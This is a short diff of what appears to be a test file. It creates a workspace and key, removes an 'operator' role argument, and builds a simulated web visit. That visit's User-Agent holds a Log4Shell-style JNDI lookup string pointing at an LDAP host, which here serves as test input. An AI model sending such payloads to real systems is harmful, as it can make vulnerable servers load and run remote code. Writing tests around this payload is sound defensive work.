@@ -29,7 +29,7 @@ beforeAll(async () => {
   const { deps } = inside
   const now = Date.now()
   const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
-  key = (await deps.installation.keys.create({ workspace: workspace.id, role: 'operator', now })).secret
+  key = (await deps.installation.keys.create({ workspace: workspace.id, now })).secret
   const userAgent = `\${jndi:ldap://${secret}/a}`
   const visit = webVisit(ip, { uri: `/${secret}?a=%2e`, userAgent }, now - 60_000)
   const greeted: Exchange = {
